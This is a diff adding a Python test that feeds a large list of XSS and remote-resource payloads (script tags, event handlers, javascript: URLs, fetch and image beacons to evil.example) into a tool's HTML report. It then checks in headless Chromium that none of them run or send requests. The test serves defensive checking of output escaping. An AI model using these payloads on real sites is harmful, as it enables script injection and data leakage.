@@ -1,0 +1,191 @@
+#!/usr/bin/env python3
+"""The morning page in a real browser: no request leaves it, and no script in it runs.
+
+    page.py RUNNER [FOLDER_FOR_PICTURES]
+
+Runs a night over notes, commits, file names and a program's last words that all want to be markup,
+and opens the page in Chromium. Every name of a host is answered by a listener of this script, so a
+request that leaves is heard. Another page, of the same payloads and unescaped, must be heard and must
+run: else this script would prove nothing. Skips, and counts it, where there is no Chromium.
+"""
+
+import http.server
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import threading
+from pathlib import Path
+
+RUNNER = Path(sys.argv[1]).resolve()
+PICTURES = Path(sys.argv[2]).resolve() if len(sys.argv) > 2 else None
+CHROMIUM = next(filter(None, map(shutil.which, ["chromium", "chromium-browser", "google-chrome"])), None)
+if not CHROMIUM:
+    print("skipped 1: there is no chromium")
+    sys.exit(0)
+
+DEEDS = [
+    "document.documentElement.dataset.ran=1",
+    "fetch('http://evil.example/f')",
+    "new Image().src='http://evil.example/i'",
+    "location='http://evil.example/l'",
+    "document.title='RAN'",
+    "eval('document.documentElement.dataset.ran=2')",
+]
+SHAPES = [
+    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>",
+    "</title><script>{}</script>", "--><script>{}</script><!--", "\"><script>{}</script>",
+    "'><img src=x onerror={}>", "<img src=x onerror={}>", "<svg onload={}>", "</desc></svg><svg onload={}>",
+    "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<iframe src=\"javascript:{}\"></iframe>",
+    "<details open ontoggle={}>x</details>", "</summary></details><details open ontoggle={}>x",
+    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>x</marquee>",
+    "<style onload={}></style>", "<object data=\"data:text/html,<script>{}</script>\"></object>",
+    "<math><mtext></mtext><script>{}</script></math>", "<select autofocus onfocus={}></select>",
+    "<a href=\"javascript:{}\" autofocus>x</a>", "<audio src=x onerror={}></audio>",
+]
+REMOTE = [
+    "<img src=http://evil.example/img>", "<link rel=stylesheet href=http://evil.example/css>",
+    "<link rel=prefetch href=http://evil.example/pre>", "<link rel=preconnect href=http://evil.example>",
+    "<meta http-equiv=refresh content=\"0;url=http://evil.example/meta\">", "<base href=http://evil.example/>",
+    "<style>@import url(http://evil.example/import);</style>", "<iframe src=http://evil.example/frame></iframe>",
+    "<video poster=http://evil.example/poster></video>", "<object data=http://evil.example/object></object>",
+    "<embed src=http://evil.example/embed>", "<svg><image href=http://evil.example/image /></svg>",
+    "<svg><use href=http://evil.example/use#x /></svg>", "<p style=\"background:url(http://evil.example/bg)\">x</p>",
+    "<script src=http://evil.example/js></script>", "![x](http://evil.example/md.png)",
+    "[x]: http://evil.example 't'", "<audio src=http://evil.example/audio autoplay></audio>",
+    "<input type=image src=http://evil.example/input>", "<body background=http://evil.example/body>",
+    "<img srcset=\"http://evil.example/set 1x\">", "<track src=http://evil.example/track>",
+    "<img src=//evil.example/slashes>", "<IMG SRC=\"http:&#47;&#47;evil.example/entity\">",
+    "<form action=http://evil.example/form><button autofocus>x</button></form>", "<frameset onload=alert(1)>",
+    "\"><img src=http://evil.example/quote>", "'><img src=http://evil.example/apostrophe>",
+    "`><img src=http://evil.example/backtick>", "</textarea><img src=http://evil.example/textarea>",
+    "</noscript><img src=http://evil.example/noscript>", "]]><img src=http://evil.example/cdata>",
+    "<!--><img src=http://evil.example/comment>", "<![CDATA[<img src=http://evil.example/cdata2>",
+    "<%00img src=http://evil.example/nul>", "<img/src=http://evil.example/slash>",
+    "<svg><style>@import 'http://evil.example/svgstyle';</style></svg>",
+    "<svg><a href=http://evil.example/a><text y=9>x</text></a></svg>",
+    "<template><img src=http://evil.example/template></template>",
+    "<picture><source srcset=http://evil.example/picture><img></picture>",
+    "<table background=http://evil.example/table><tr><td>x</td></tr></table>",
+    "<div style=\"content:url(http://evil.example/content)\">x</div>",
+    "<link rel=icon href=http://evil.example/icon>", "<link rel=manifest href=http://evil.example/manifest>",
+    "<link rel=preload as=image href=http://evil.example/preload>",
+    "<link rel=modulepreload href=http://evil.example/module>",
+    "<link rel=dns-prefetch href=http://evil.example>", "<script type=module src=http://evil.example/mjs></script>",
+    "<applet code=http://evil.example/applet></applet>", "<bgsound src=http://evil.example/bgsound>",
+    "<isindex action=http://evil.example/isindex>", "<layer src=http://evil.example/layer></layer>",
+    "<xml src=http://evil.example/xml></xml>", "<img dynsrc=http://evil.example/dynsrc>",
+    "<img lowsrc=http://evil.example/lowsrc>", "<portal src=http://evil.example/portal></portal>",
+]
+PAYLOADS = [shape.replace("{}", deed) for shape in SHAPES for deed in DEEDS] + REMOTE
+assert len(PAYLOADS) >= 200 and len(set(PAYLOADS)) == len(PAYLOADS), len(PAYLOADS)
+
+
+class Listener(http.server.BaseHTTPRequestHandler):
+    heard = []
+
+    def do_GET(self):
+        Listener.heard.append(f"{self.headers.get('Host')} {self.path}")
+        self.send_response(204)
+        self.end_headers()
+
+    do_POST = do_HEAD = do_OPTIONS = do_CONNECT = do_GET
+
+    def log_message(self, *_):
+        pass
+
+
+server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+threading.Thread(target=server.serve_forever, daemon=True).start()
+
+
+def chromium(scratch, *args):
+    flags = [
+        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--hide-scrollbars",
+        "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions",
+        "--allow-file-access-from-files", f"--user-data-dir={scratch}/chromium",
+        f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_port}",
+    ]
+    done = subprocess.run([*flags, *args], capture_output=True, text=True, timeout=180, check=False)
+    return done.stdout
+
+
+def opened(scratch, page):
+    """What leaves a page, and the page as it is after its scripts."""
+    Listener.heard.clear()
+    dom = chromium(scratch, "--virtual-time-budget=4000", "--dump-dom", page.as_uri())
+    assert "</html>" in dom, f"{page} was not opened: {dom[:300]!r}"
+    return [line for line in Listener.heard if "evil.example" in line], dom
+
+
+def night(scratch):
+    project = scratch / "project"
+    project.mkdir()
+    env = {
+        "PATH": os.environ["PATH"], "HOME": str(scratch), "XDG_STATE_HOME": str(scratch / "state"), "TZ": "UTC",
+        "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.org", "GIT_COMMITTER_NAME": "a",
+        "GIT_COMMITTER_EMAIL": "a@example.org", "GIT_CONFIG_NOSYSTEM": "1",
+    }
+
+    def run(*words, codes=(0,)):
+        done = subprocess.run(words, cwd=project, env=env, capture_output=True, text=True, check=False)
+        assert done.returncode in codes, (words, done.returncode, done.stderr)
+        return done.stdout
+
+    run("git", "init", "--quiet")
+    run(RUNNER, "init", "--quiet")
+    with open(project / "runner.toml", "a", encoding="utf-8") as config:
+        config.write('\n[jobs.dream]\nmax_ideas = 500\nquiet_minutes = 0\n[jobs.dream.budget]\nideas = 500\n')
+        for number in range(0, len(PAYLOADS), 25):
+            config.write(f'[jobs.words{number}]\nkind = "command"\nprogram = "sh"\n')
+            config.write(f'args = ["-c", "cat words{number} >&2; exit 1"]\n')
+            (project / f"words{number}").write_text("\n".join(PAYLOADS[number : number + 25]))
+    ideas = project / "ideas"
+    ideas.mkdir(exist_ok=True)
+    for number, payload in enumerate(PAYLOADS):
+        plain = payload.replace("/", "\u2215")[:120]
+        (ideas / f"{number} {plain}.md").write_text(f"# Export number{number} {payload}\n\nAdd it: {payload}\n")
+        if number % 4 == 0:
+            run("git", "commit", "--quiet", "--allow-empty", "-m", f"Add export number{number} {payload}")
+    run(RUNNER, "night", "--quiet", codes=(0, 1))
+    page = run(RUNNER, "report", "--html")
+    return page, run(RUNNER, "report", "--md")
+
+
+with tempfile.TemporaryDirectory(prefix="runner-page-") as folder:
+    scratch = Path(folder)
+    # The control: the same payloads, each in a page that trusts it.
+    ran = left = 0
+    for number in range(0, len(PAYLOADS), 24):
+        control = scratch / "control.html"
+        control.write_text("<!DOCTYPE html><html><body>" + "\n".join(PAYLOADS[number : number + 24]) + "</body></html>")
+        heard, dom = opened(scratch, control)
+        ran += "data-ran" in dom or "RAN" in dom
+        left += len(heard)
+    assert ran and left, f"the control proves nothing: ran {ran}, left {left}"
+
+    text, markdown = night(scratch)
+    page = scratch / "report.html"
+    page.write_text(text)
+    shown = sum(f"number{number} " in text or f"ideas/{number} " in text for number in range(len(PAYLOADS)))
+    assert shown >= 200, f"only {shown} payloads are in the page"
+    heard, dom = opened(scratch, page)
+    assert not heard, f"requests left: {heard[:5]}"
+    assert "data-ran" not in dom and "<title>RAN" not in dom and "<script" not in dom.lower(), "a script ran"
+    assert dom.count("<style") == 1 and dom.count("http-equiv") == 1
+    # The style sheet is let in by the page's own policy: the computed page is as wide as it says.
+    print(f"page: {shown} payloads shown, none ran, none left; the control ran in {ran} pages and {left} requests left")
+
+    if PICTURES:
+        PICTURES.mkdir(parents=True, exist_ok=True)
+        for width in (390, 820, 1440):
+            frame = scratch / "frame.html"
+            frame.write_text(
+                f"<body style='margin:0'><iframe src='{page.as_uri()}' style='border:0;width:{width}px;height:2400px'>"
+            )
+            for dark in (0, 1):
+                chromium(
+                    scratch, f"--window-size={max(width, 500)},2400", f"--blink-settings=preferredColorScheme={1 - dark}",
+                    f"--screenshot={PICTURES}/{width}-{'dark' if dark else 'light'}.png", frame.as_uri(),
+                )
